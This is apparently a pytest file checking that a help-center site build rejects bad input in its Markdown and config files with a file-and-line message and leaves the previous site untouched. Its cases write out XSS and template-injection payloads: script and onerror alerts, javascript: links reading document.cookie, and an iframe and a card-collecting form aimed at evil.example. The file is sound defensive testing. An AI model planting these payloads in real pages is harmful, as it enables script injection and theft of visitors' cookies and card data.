"""The input editors and attackers really produce: each bad input stops `make site` (python -m helpcenter.build)
with a message naming the file and the line and saying what to do, never a traceback, and the last good site/
stays exactly as it was.

One copy of the repository; each case changes one file (or mkdocs.yml), builds, and puts the file back."""
from __future__ import annotations

import pytest

from support import copy_with_good_site, run_site_build as make_site, snapshot


@pytest.fixture(scope="module")
def repo(tmp_path_factory):
    return copy_with_good_site(tmp_path_factory.mktemp("bad-inputs"))


def append(rel, text):
    """Add `text` (str or bytes) as the last line of `rel`; returns (file, the line it is on)."""
    def change(root):
        path = root / rel
        data = path.read_bytes().rstrip(b"\n") + b"\n\n"
        line = data.count(b"\n") + 1
        path.write_bytes(data + (text if isinstance(text, bytes) else text.encode("utf-8")) + b"\n")
        return rel, line
    return change


def replace(rel, old, new):
    """Replace the line starting with `old` in `rel` by `new`; returns (file, that line)."""
    def change(root):
        path = root / rel
        lines = path.read_text("utf-8").split("\n")
        n = next(i for i, line in enumerate(lines) if line.startswith(old))
        lines[n] = new
        path.write_text("\n".join(lines), "utf-8")
        return rel, n + 1
    return change


# (case, change, words the message must contain)
CASES = [
    ("invalid UTF-8 bytes", append("docs/kk/returns.md", b"\xd0\x9a\xff\xfe text"), ["not valid UTF-8", "save it as UTF-8"]),
    ("impossible front matter date", replace("docs/el/returns.md", "updated:", "updated: 2025-13-45"),
     ["2025-13-45 is not a date", "YYYY-MM-DD"]),
    ("placeholder arithmetic", append("docs/en/returns.md", "Now {{ store * 2000000000 }}."),
     ["{{ store * 2000000000 }}", "arithmetic", "only names a setting"]),
    ("placeholder filter", append("docs/kk/faq.md", "{{ store | upper }}"), ["filter", "only names a setting"]),
    ("placeholder call", append("docs/el/faq.md", "{{ range(10000000000) }}"), ["a call"]),
    ("placeholder block", append("docs/en/faq.md", "{% for x in range(9) %}x{% endfor %}"), ["a block"]),
    ("unknown placeholder", append("docs/en/contact.md", "{{ stor }}"), ["unknown placeholder 'stor'", "store"]),
    ("script element", append("docs/kk/index.md", "<script>alert(document.domain)</script>"), ["<script>", "not allowed"]),
    ("event handler", append("docs/el/index.md", "<img src=x onerror=alert(1)>"), ["onerror", "event-handler"]),
    ("iframe", append("docs/en/warranty.md", '<iframe src="https://evil.example/"></iframe>'), ["<iframe>"]),
    ("form", append("docs/kk/warranty.md", '<form action="https://evil.example/"><input name=card></form>'),
     ["<form>", "contact.md"]),
    ("javascript: link", append("docs/el/warranty.md", "[Open](javascript:alert(document.cookie))"),
     ["javascript:", "runs code"]),
    ("entity-encoded javascript: link", append("docs/en/before-you-buy.md", "[x](&#106;ava&#x09;script:alert(1))"),
     ["javascript:"]),
    ("data: image", append("docs/kk/before-you-buy.md", "![x](data:image/svg+xml;base64,PHN2Zz4=)"), ["data:"]),
    ("HTML in the front matter title", replace("docs/kk/warranty.md", "title:", 'title: "Кепілдік <script>x</script>"'),
     ["front matter title", "without <"]),
    ("attribute list handler", append("docs/el/before-you-buy.md", '[x](faq.md){: onmouseover="alert(1)" }'),
     ["onmouseover"]),
]


@pytest.mark.parametrize("change, words", [c[1:] for c in CASES], ids=[c[0] for c in CASES])
def test_bad_input_stops_the_build_with_file_line_and_advice(repo, change, words):
    before = snapshot(repo / "site")
    saved = {p: p.read_bytes() for p in (repo / "docs").rglob("*.md")}
    try:
        rel, line = change(repo)
        result = make_site(repo)
    finally:
        for p, data in saved.items():
            p.write_bytes(data)
    out = result.stdout + result.stderr
    assert result.returncode != 0, out
    assert "Traceback" not in out, out
    located = [ln for ln in out.splitlines() if f"{rel}:{line}:" in ln]
    assert located, f"no line names {rel}:{line}:\n{out}"
    for word in words:
        assert any(word in ln for ln in located), (word, located)
    assert "site/ left unchanged" in out
    assert snapshot(repo / "site") == before
    assert sorted(p.name for p in repo.iterdir() if p.name.startswith(".site")) == []


@pytest.mark.parametrize("value", [".nan", ".inf", "-.inf"])
def test_a_policy_value_that_is_not_a_number_stops_the_build(repo, value):
    before = snapshot(repo / "site")
    config = repo / "mkdocs.yml"
    saved = config.read_bytes()
    try:
        config.write_text(saved.decode("utf-8").replace("      value: 30\n", f"      value: {value}\n", 1), "utf-8")
        result = make_site(repo)
    finally:
        config.write_bytes(saved)
    out = result.stdout + result.stderr
    assert result.returncode != 0 and "Traceback" not in out, out
    assert "extra.policy.return_window.value: must be a finite number" in out
    assert snapshot(repo / "site") == before


def test_a_byte_order_mark_is_not_an_unstamped_translation_stating_3(repo):
    path = repo / "docs" / "kk" / "returns.md"
    saved = path.read_bytes()
    try:
        path.write_bytes(b"\xef\xbb\xbf" + saved)
        result = make_site(repo)
    finally:
        path.write_bytes(saved)
    out = result.stdout + result.stderr
    assert result.returncode == 0, out
    assert "not stamped" not in out.replace("0 not stamped", "")
    assert "policy guard: 0 problem(s)" in out
